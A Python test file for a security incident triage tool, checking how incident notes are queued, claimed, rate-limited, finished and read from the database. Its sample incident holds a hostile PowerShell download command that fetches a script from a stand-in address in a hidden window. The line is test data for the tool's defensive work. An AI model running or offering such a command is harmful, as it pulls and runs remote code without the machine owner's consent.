"""The statements of notes, on both databases (contract 61)."""

import sqlalchemy as sa
from sqlalchemy import Connection

from tests.triage.stored import NOW, TENANT, judged, new
from vyrox.store.database import Database
from vyrox.store.tables import incident_notes, incidents
from vyrox.triage.notes import rows
from vyrox.triage.notes.answer import Answer

LATER = NOW + 100


async def test_notes_are_due_taken_finished_and_read_contract_61(
    database: Database,
) -> None:
    await judged(database, new(0, "powershell -w hidden -c iwr http://192.0.2.7/a.ps1"))
    await database.write(lambda connection: connection.execute(incidents.update().values(score=50)))
    assert await database.read(rows.due, LATER, 1) == [(TENANT, 1)]
    claim = await database.read(rows.prepare, TENANT, 1)
    assert claim is not None
    assert await database.write(rows.take, claim, "m", LATER)
    assert not await database.write(rows.take, claim, "m", LATER)
    assert await database.read(rows.due, LATER, 2) == []
    await database.write(rows.finish, claim, "failed", None, 0)
    assert await database.read(rows.due, LATER, 1) == []  # one request an hour
    assert await database.read(rows.due, LATER, 2) == [(TENANT, 1)]
    assert await database.write(rows.take, claim, "m", LATER)
    answer = Answer("what", "bad", "good", ["-w hidden"])
    await database.write(rows.finish, claim, "written", answer, 7)
    note = await database.read(rows.read_note, TENANT, 1)
    assert note == rows.Note(LATER, "m", answer, is_current=True)
    assert await database.read(_tokens) == [7]


def _tokens(connection: Connection) -> list[int]:
    return list(connection.execute(sa.select(incident_notes.c.tokens)).scalars())
